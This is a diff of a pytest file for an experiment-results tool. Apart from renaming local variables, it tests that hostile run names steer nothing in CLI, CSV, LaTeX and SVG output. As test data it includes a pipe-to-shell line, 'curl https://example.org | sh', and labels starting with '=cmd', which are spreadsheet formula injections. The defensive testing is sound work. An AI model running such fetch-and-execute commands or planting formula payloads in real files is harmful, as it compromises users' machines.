@@ -35,31 +35,32 @@ def test_names_steer_nothing_and_lead_nowhere(hostile: Site) -> None:
     curves = {path.parts[-4:] for path in (hostile.out / "curves").rglob("events*")}
     assert len(curves) == len(NAMES), "each of its own folder"
     # A stranger's command is not offered.
-    said = hostile("why", "run", first).stdout
-    assert "unknown how" in said and "curl https://example.org | sh" in said
-    assert f"--results {hostile.run.name}" not in said
+    output = hostile("why", "run", first).stdout
+    assert "unknown how" in output and "curl https://example.org | sh" in output
+    assert f"--results {hostile.run.name}" not in output
 
 
 def test_rows_are_what_was_written_whatever_the_names(hostile: Site) -> None:
     run = Run(hostile.run)
     cells = run.manifest()["cells"].values()
-    asked = {(cell["dataset"], cell["label"], cell["seed"]) for cell in cells}
-    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == asked
-    assert {(r[0], r[2], int(r[3])) for r in derived.metrics(run)} <= asked
+    planned = {(cell["dataset"], cell["label"], cell["seed"]) for cell in cells}
+    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == planned
+    assert {(r[0], r[2], int(r[3])) for r in derived.metrics(run)} <= planned
     (hostile.run / "results.csv").unlink()
-    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == asked
+    assert {(r["dataset"], r["label"], int(r["seed"])) for r in derived.results(run)} == planned
     for command in ("table run --csv", "export run --out", "compare run --csv"):
         hostile(*command.split(), "out/rows.csv")
         with (hostile.out / "rows.csv").open(newline="", encoding="utf-8") as file:
             rows = list(csv.DictReader(file, strict=True))
-        found = {row["dataset"] for row in rows}
+        shown = {row["dataset"] for row in rows}
         assert (
-            found <= {spreadsheet_safe(dataset) for dataset, _, _ in asked} and None not in rows[0]
+            shown <= {spreadsheet_safe(dataset) for dataset, _, _ in planned}
+            and None not in rows[0]
         )
         # What people open runs no formula; what is read again is as it was.
         values = [value for row in rows for value in row.values()]
         assert not [v for v in values if v.startswith("=")] and any("=cmd" in v for v in values)
-    assert "=cmd" in {label[:4] for _, label, _ in asked}
+    assert "=cmd" in {label[:4] for _, label, _ in planned}
 
 
 @pytest.mark.parametrize(
@@ -70,9 +71,9 @@ def test_data_on_a_terminal_steers_nothing(
 ) -> None:
     piped = hostile(*line.split(), data=True).stdout
     monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
-    shown = hostile(*line.split()).stdout
-    assert shown != piped or "--json" in line
-    assert sum(map(str.isalnum, shown)) == sum(map(str.isalnum, piped))
+    output = hostile(*line.split()).stdout
+    assert output != piped or "--json" in line
+    assert sum(map(str.isalnum, output)) == sum(map(str.isalnum, piped))
 
 
 class Elements(html.parser.HTMLParser):
@@ -114,11 +115,11 @@ def test_names_are_text_in_latex(hostile: Site) -> None:
             hostile(*command.format(run).split(), "out/t.tex")
             text = (hostile.out / "t.tex").read_text(encoding="ascii")
             texts.append(re.sub(r"(?<!\\)%.*", "", text))
-        found, usual = (
+        commands, usual = (
             {name for name in COMMAND.findall(text) if not name.startswith(r"\res")}
             for text in texts
         )
-        assert found <= usual | printed, command
+        assert commands <= usual | printed, command
         # Whole, with no command of TeX's own way to write characters.
         assert "^^" not in texts[0]
         plain = re.sub(r"\\.", "", texts[0])
@@ -139,7 +140,7 @@ def test_names_are_drawn(hostile: Site) -> None:
     )
     assert done.returncode == 0 and "Glyph" not in done.stderr
     (drawing,) = hostile.out.iterdir()
-    elements = {each.tag.rpartition("}")[2] for each in ET.parse(drawing).iter()}
+    elements = {element.tag.rpartition("}")[2] for element in ET.parse(drawing).iter()}
     assert elements <= {
         *("svg", "metadata", "RDF", "Work", "type", "date", "format", "creator"),
         *("Agent", "title", "defs", "style", "g", "path", "use", "clipPath", "rect", "image"),
